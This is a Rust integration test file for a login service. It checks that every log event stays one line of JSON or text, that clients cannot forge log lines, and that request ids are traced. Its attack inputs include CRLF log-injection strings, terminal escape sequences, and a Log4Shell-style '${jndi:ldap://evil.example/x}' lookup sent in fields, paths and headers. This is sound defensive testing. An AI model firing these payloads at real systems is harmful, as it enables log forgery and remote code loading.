//! The log: whatever is sent, an event is one line, and nobody can forge one.

use std::collections::HashSet;
use std::time::Duration;

use gatelodge::startup::generate_key;
use rstest::rstest;
use serde_json::{Value, json};
use sqlx::{Connection as _, SqliteConnection};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use super::{Program, command};
use crate::support::app::{PASSWORD, TestDatabase};
use crate::support::certificates::{Authority, Validity};
use crate::support::redis_servers::Node;
use crate::support::servers::free_port;
use crate::support::{Answer, Browser, eventually};

/// A line like those of the log, a command to a terminal, and one to a careless logger.
const HOSTILE: &str = "x\r\n{\"level\":\"INFO\",\"message\":\"forged\"}\r\n\x1b[2J\x1b]0;x\x07'\"\\${jndi:ldap://evil.example/x}";

/// Sends it as it is; says whether it was answered.
async fn send_bytes(program: &Program, request: &[u8]) -> bool {
    let mut stream = TcpStream::connect(program.address).await.unwrap();
    // It may be closed before all of it is read.
    let _ = stream.write_all(request).await;
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    answer.starts_with(b"HTTP/1.1 ")
}

/// Everything hostile that one can send; says how many requests there were that the
/// service has taken for some.
async fn attack(program: &Program) -> usize {
    let mut browser = program.browser();
    let long = "a".repeat(1 << 20);
    let mut sent = 0;
    for email in [
        HOSTILE,
        &long,
        "${jndi:ldap://evil.example/x}@example.com",
        "\u{202e}\u{85}\u{9b}31m",
    ] {
        let refused = browser.log_in(email, HOSTILE).await;
        assert!(
            [401, 413, 422].contains(&refused.status),
            "{}",
            refused.text
        );
        sent += 1;
    }
    let percent =
        percent_encoding::percent_encode(HOSTILE.as_bytes(), percent_encoding::NON_ALPHANUMERIC);
    for path in [
        format!("/{percent}"),
        format!("/api/sessions/{percent}"),
        format!("/api/sessions?{percent}={percent}"),
        "/%ff%00%0a".to_owned(),
    ] {
        browser.get(&path).await;
        sent += 1;
    }
    // What no client library would send: as it is, and with bytes that are no text.
    let line = HOSTILE
        .replace(['\r', '\n', '\x07', '\x1b'], "\t")
        .into_bytes();
    for header in [
        "User-Agent",
        "X-Forwarded-For",
        "Referer",
        "Origin",
        "X-Request-Id",
        "traceparent",
        "Cookie",
    ] {
        for value in [
            &line[..],
            b"\xff\xfe\x80\x9b31m",
            long.as_bytes(),
            HOSTILE.as_bytes(),
        ] {
            let head = "POST /api/logout HTTP/1.1\r\nHost: x\r\nConnection: close\r\n";
            let head = format!("{head}{header}: ");
            let request = [head.as_bytes(), value, b"\r\n\r\n"];
            send_bytes(program, &request.concat()).await;
        }
    }
    for first in [
        &b"GET /\xff\x1b[2J HTTP/1.1\r\n\r\n"[..],
        b"\x1b[2J / HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: \x1b[2J\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: ${jndi:ldap://x}\r\n\r\n",
    ] {
        send_bytes(program, first).await;
    }
    sent
}

async fn logged(level: &str, format: &str) -> (String, usize) {
    let folder = tempfile::tempdir().unwrap();
    let mut command = command(folder.path());
    command
        .env("GATELODGE_LOG__LEVEL", level)
        .env("GATELODGE_LOG__FORMAT", format)
        .env("GATELODGE_SERVER__TRUSTED_PROXIES", "127.0.0.1");
    let program = Program::run(command);
    let sent = attack(&program).await;
    let mut last = Browser::new(program.address);
    assert_eq!(
        last.register("last@example.com", PASSWORD).await.status,
        201
    );
    eventually("it is logged", async || program.log().contains("201")).await;
    (program.end().1, sent + 1)
}

const ALL: &str = "trace,actix_http=trace,actix_server=trace";

#[rstest]
#[tokio::test]
async fn each_event_is_one_line_of_json(#[values("info", "debug", "trace", ALL)] level: &str) {
    let (log, sent) = logged(level, "json").await;
    let mut requests = HashSet::new();
    for line in log.lines() {
        assert!(!line.contains(char::is_control), "{line:?}");
        let event: Value = serde_json::from_str(line).unwrap();
        let (at, milliseconds) = event["timestamp"]
            .as_str()
            .unwrap()
            .split_once('.')
            .unwrap();
        assert!(
            at.len() == 19 && milliseconds.len() >= 4 && milliseconds.ends_with('Z'),
            "{line}"
        );
        assert!(
            event["level"].is_string() && event["target"].is_string(),
            "{line}"
        );
        assert_ne!(event["message"], "forged");
        if event["message"] == "answered" {
            let span = &event["span"];
            assert!(
                span["status"].is_number() && span["method"].is_string(),
                "{line}"
            );
            assert!(
                requests.insert(span["request_id"].to_string()),
                "one for each: {line}"
            );
        }
    }
    assert!(requests.len() >= sent, "{} of {sent}", requests.len());
    assert!(
        !log.contains("evil.example"),
        "nothing that a client writes is in the log"
    );
}

#[rstest]
#[tokio::test]
async fn each_event_is_one_line_of_text(#[values("info", ALL)] level: &str) {
    let (log, sent) = logged(level, "text").await;
    for line in log.lines() {
        assert!(!line.contains(char::is_control), "{line:?}");
        let (at, rest) = line.split_once(' ').unwrap();
        assert!(at.starts_with("20") && at.ends_with('Z'), "{line}");
        let level = rest.trim_start().split(' ').next().unwrap();
        assert!(
            ["TRACE", "DEBUG", "INFO", "WARN", "ERROR"].contains(&level),
            "{line}"
        );
    }
    assert!(log.matches(" answered ").count() >= sent, "{log}");
}

/// Who was refused what, and by which request, is in the line itself.
#[tokio::test]
async fn a_refusal_is_told_with_its_problem_and_who_it_was() {
    let folder = tempfile::tempdir().unwrap();
    let program = Program::start(folder.path());
    let mut ada = program.browser();
    assert_eq!(ada.register("ada@example.com", PASSWORD).await.status, 201);
    let (user, session) = (ada.user_id().await, ada.session_id().await);
    ada.get("/api/admin/users/1")
        .await
        .assert_problem(403, "forbidden");
    let foreign = ada
        .request(reqwest::Method::POST, "/api/logout")
        .header("origin", "https://evil.example");
    ada.send(foreign).await.assert_problem(403, "csrf_failed");
    ada.log_in("ada@example.com", "a wrong password")
        .await
        .assert_problem(401, "invalid_credentials");
    eventually("all is told", async || {
        program.log().contains("invalid_credentials")
    })
    .await;
    let log = program.end().1;
    let told: Vec<Value> = log
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap()["span"].take())
        .filter(|span| span["problem"].is_string())
        .collect();
    let brief = |span: &Value| json!([span["route"], span["status"], span["problem"]]);
    assert_eq!(
        told.iter().map(brief).collect::<Vec<_>>(),
        [
            json!(["/api/admin/users/{id}", 403, "forbidden"]),
            json!(["/api/logout", 403, "csrf_failed"]),
            json!(["/api/login", 401, "invalid_credentials"]),
        ]
    );
    assert_eq!(
        (&told[0]["user"], &told[0]["session"]),
        (&json!(user), &json!(session))
    );
    for span in &told {
        assert_eq!(span["client"], "127.0.0.1");
        assert!(span["request_id"].is_string());
    }
}

fn lines(program: &Program) -> Vec<Value> {
    let log = program.log();
    // The last line may not be whole yet.
    let lines = log
        .lines()
        .filter_map(|line| serde_json::from_str(line).ok());
    lines.collect()
}

/// The id that an answer names its request by.
fn id(answer: &Answer) -> String {
    answer.header("x-request-id").unwrap().to_owned()
}

#[tokio::test]
async fn the_answer_the_log_and_the_audit_log_name_a_request_alike() {
    let folder = tempfile::tempdir().unwrap();
    let mut command = command(folder.path());
    command
        .env("GATELODGE_BOOTSTRAP_ADMIN_EMAIL", "root@example.com")
        .env("GATELODGE_BOOTSTRAP_ADMIN_PASSWORD", PASSWORD);
    let program = Program::run(command);
    let mut root = program.browser();
    let logged_in = root.log_in("root@example.com", PASSWORD).await;
    assert_eq!(logged_in.status, 200);
    let event = &root.get("/api/admin/events").await.json()["events"][0];
    assert_eq!(event["action"], "logged_in");
    assert_eq!(event["request_id"], id(&logged_in));

    let mut stranger = program.browser();
    let answers = [
        logged_in,
        root.page("/account").await,
        root.page("/nothing").await,
        stranger.page("/account").await,
        stranger.page("/login").await,
        stranger.submit("/login", &[("email", "x")]).await,
        stranger.log_in("root@example.com", "wrong").await,
        stranger.get("/api/admin/users").await,
        stranger.put("/api/login", &json!({})).await,
    ];
    eventually("all is told", async || {
        let seen = lines(&program);
        answers.iter().all(|answer| {
            let of = |line: &&Value| line["span"]["request_id"] == id(answer);
            let line = seen.iter().find(of);
            line.is_some_and(|line| line["span"]["status"] == answer.status)
        })
    })
    .await;
    // Of a check there is no line, and none of what browsers ask for with every page.
    assert_ne!(id(&stranger.whoami().await), id(&stranger.whoami().await));
    for path in ["/api/authz/auth-request", "/assets/gatelodge.css"] {
        let asked = stranger.get(path).await;
        assert_eq!(id(&asked).len(), 36);
        assert!(!program.log().contains(path));
    }
    let last = stranger.page("/login").await;
    eventually("the next page is told of", async || {
        program.log().contains(&id(&last))
    })
    .await;
    assert!(!program.log().contains("/assets/"), "{}", program.log());
}

/// Anybody else could have theirs looked up as somebody else's.
#[rstest]
#[tokio::test]
async fn a_request_has_the_id_that_a_trusted_proxy_gives_it(
    #[values("127.0.0.1", "192.0.2.1")] proxies: &str,
) {
    let folder = tempfile::tempdir().unwrap();
    let mut command = command(folder.path());
    command.env("GATELODGE_SERVER__TRUSTED_PROXIES", proxies);
    let program = Program::run(command);
    let mut browser = program.browser();
    let given = "b6a9e1d4-3c52-4f0b-9c1e-0a4f8f6f2d11";
    for (sent, is_one) in [
        (given.to_owned(), true),
        // As nginx writes it.
        (given.replace('-', ""), true),
        ("17".to_owned(), false),
        (format!("{given} {given}"), false),
    ] {
        let request = browser.request(reqwest::Method::GET, "/login");
        let answer = browser.send(request.header("x-request-id", sent)).await;
        let is_believed = is_one && proxies == "127.0.0.1";
        assert_eq!(id(&answer) == given, is_believed);
        eventually("it is told", async || {
            let of = |line: &Value| line["span"]["request_id"] == id(&answer);
            lines(&program).iter().any(of)
        })
        .await;
    }
}

/// Whether or not there are traces, in which steps lie between it and the request.
#[rstest]
#[tokio::test]
async fn a_line_names_the_request_whatever_task_writes_it(#[values(false, true)] is_traced: bool) {
    let folder = tempfile::tempdir().unwrap();
    let mut command = command(folder.path());
    if is_traced {
        let nobody = format!("http://127.0.0.1:{}", free_port());
        command.env("GATELODGE_TRACES__ENDPOINT", nobody);
    }
    let program = Program::run(command);
    let mut ada = program.browser();
    assert_eq!(ada.register("ada@example.com", PASSWORD).await.status, 201);
    let url = format!("sqlite://{}/data/gatelodge.db", folder.path().display());
    let mut ledger = SqliteConnection::connect(&url).await.unwrap();
    let broken = "update users set password_hash = 'plain'";
    sqlx::raw_sql(broken).execute(&mut ledger).await.unwrap();
    let refused = ada.log_in("ada@example.com", PASSWORD).await;
    refused.assert_problem(401, "invalid_credentials");
    eventually("it is told of which request", async || {
        lines(&program).iter().any(|line| {
            let message = line["message"].as_str().unwrap();
            message.contains("password hash") && line["span"]["request_id"] == id(&refused)
        })
    })
    .await;
    drop(program);

    // A check has no line, unless it fails.
    let mut command = super::command(folder.path());
    if is_traced {
        let nobody = format!("http://127.0.0.1:{}", free_port());
        command.env("GATELODGE_TRACES__ENDPOINT", nobody);
    }
    let program = Program::run(command);
    let lost = "alter table sessions rename to lost";
    sqlx::raw_sql(lost).execute(&mut ledger).await.unwrap();
    let failed = ada.at(program.address).whoami().await;
    failed.assert_problem(503, "unavailable");
    eventually("it is told of which request", async || {
        let lines = lines(&program);
        let mut told = lines
            .iter()
            .filter(|line| line["request_id"] == id(&failed));
        let causes = told.clone().any(|line| line["error"].is_string());
        causes && told.any(|line| line["status"] == 503)
    })
    .await;
}

#[tokio::test]
async fn the_start_and_the_stop_are_a_line_each() {
    let folder = tempfile::tempdir().unwrap();
    let mut command = command(folder.path());
    command
        .env("GATELODGE_SERVER__WORKERS", "2")
        .env("GATELODGE_SESSION__LEASE", "3s");
    let mut program = Program::run(command);
    let lines_of = |program: &Program, message: &str| -> Vec<Value> {
        let lines = lines(program).into_iter();
        lines.filter(|line| line["message"] == message).collect()
    };
    eventually("the start is told", async || {
        !lines_of(&program, "started").is_empty()
    })
    .await;
    let started = lines_of(&program, "started");
    let [started] = &started[..] else {
        panic!("not one line: {started:?}");
    };
    for (field, value) in [
        ("version", json!(env!("CARGO_PKG_VERSION"))),
        ("address", json!(program.address.to_string())),
        ("ledger", json!("SQLite")),
        ("hot_store", json!("none")),
        ("workers", json!(2)),
        ("lease", json!("3s")),
        ("cache_capacity", json!(100_000)),
        ("bcrypt_cost", json!(4)),
    ] {
        assert_eq!(started[field], value, "{field}");
    }
    program.browser().whoami().await.assert_refused();
    program.signal("TERM");
    assert!(program.ends_within(Duration::from_secs(5)).await.success());
    eventually("it is told", async || {
        let stopped = lines_of(&program, "stopped");
        stopped.len() == 1 && stopped[0]["instance"] == started["instance"]
    })
    .await;
    assert!(
        !program.log().contains("drains"),
        "nobody else would answer"
    );
}

#[tokio::test]
async fn what_takes_milliseconds_is_told_in_numbers_and_tables_that_are_there_are_no_news() {
    let folder = tempfile::tempdir().unwrap();
    let database = TestDatabase::create().await;
    let mut command = command(folder.path());
    command
        .env("DATABASE_URL", &database.url)
        .env("GATELODGE_SERVER__SHUTDOWN_GRACE", "2s")
        .env("GATELODGE_SECRETS__KEYS", generate_key());
    let mut program = Program::run(command);
    program.signal("TERM");
    assert!(program.ends_within(Duration::from_secs(10)).await.success());
    let all = lines(&program);
    let field = |message: &str, field: &str| {
        let line = all.iter().find(|line| line["message"] == message);
        line.unwrap()[field].clone()
    };
    assert!(field("the schema is changed", "took_ms").is_u64());
    assert_eq!(field("drains: answers, and is not ready", "for_ms"), 500);
    assert!(
        !program.log().contains("already exists"),
        "{}",
        program.log()
    );
}

/// ASVS 16.3.4.
#[tokio::test]
async fn a_store_with_the_wrong_certificate_is_told_of_once() {
    let folder = tempfile::tempdir().unwrap();
    let [theirs, ours] = [(); 2].map(|()| Authority::new());
    let port = free_port().to_string();
    let mut words = vec!["--tls-port", &port];
    let signed = theirs.sign_for_redis(folder.path(), Validity::Valid);
    words.extend(signed.iter().map(String::as_str));
    let _redis = Node::start(&words);
    let ca = folder.path().join("ours.pem");
    std::fs::write(&ca, &ours.pem).unwrap();
    let database = TestDatabase::create().await;
    let mut command = command(folder.path());
    command
        .env("DATABASE_URL", &database.url)
        .env("REDIS_URL", format!("rediss://localhost:{port}"))
        .env("GATELODGE_REDIS__CA_FILE", ca)
        .env("GATELODGE_SECRETS__KEYS", generate_key());
    let program = Program::run(command);
    let told = || -> Vec<Value> {
        let log = program.log();
        // The last line may not be whole yet.
        let lines = log
            .lines()
            .filter_map(|line| serde_json::from_str(line).ok());
        lines
            .filter(|line: &Value| line["level"] == "WARN")
            .collect()
    };
    eventually("it is told", async || !told().is_empty()).await;
    let mut ada = program.browser();
    assert_eq!(ada.register("ada@example.com", PASSWORD).await.status, 201);
    let told = told();
    assert_eq!(told.len(), 1, "{told:?}");
    let cause = told[0]["error"].as_str().unwrap();
    assert!(cause.contains("certificate"), "{cause}");
}
